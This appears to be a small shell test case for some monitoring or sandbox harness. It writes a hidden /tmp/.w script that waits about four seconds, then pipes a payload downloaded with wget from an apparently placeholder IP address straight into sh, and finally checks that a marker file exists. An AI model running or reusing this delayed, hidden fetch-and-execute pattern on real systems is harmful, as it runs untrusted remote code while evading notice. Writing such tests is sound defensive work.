#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.w <<'END'
at=$(( $(date +%s) + 4 ))
while test "$(date +%s)" -lt $at; do usleep 90000; done
wget -q -O- http://203.0.113.10/payload.sh | sh
END
sh /tmp/.w
test -e /tmp/reached
took_place
